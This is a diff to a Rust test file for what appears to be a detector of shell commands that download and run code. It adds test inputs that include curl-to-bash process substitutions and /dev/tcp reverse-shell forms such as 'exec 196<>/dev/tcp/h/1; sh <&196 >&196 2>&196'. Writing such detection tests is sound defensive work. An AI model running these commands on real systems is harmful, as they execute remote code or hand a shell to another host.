@@ -94,6 +94,14 @@ fn a_download_that_is_run_is_found() {
             &["sh download"],
         ),
         ("$(curl x)", &["$() download+unknown"]),
+        ("bash --rcfile <(curl x) -i", &["bash download"]),
+        ("exec 3<>/dev/tcp/h/1; sh <&3", &["sh download"]),
+        (
+            "exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196",
+            &["sh download"],
+        ),
+        ("exec 5< <(curl x); bash <&5", &["bash download"]),
+        ("sh 0</dev/tcp/h/1", &["sh download"]),
         ("curl x > >(sh)", &["sh download"]),
         ("curl x | tee >(sh)", &["sh download"]),
     ]);
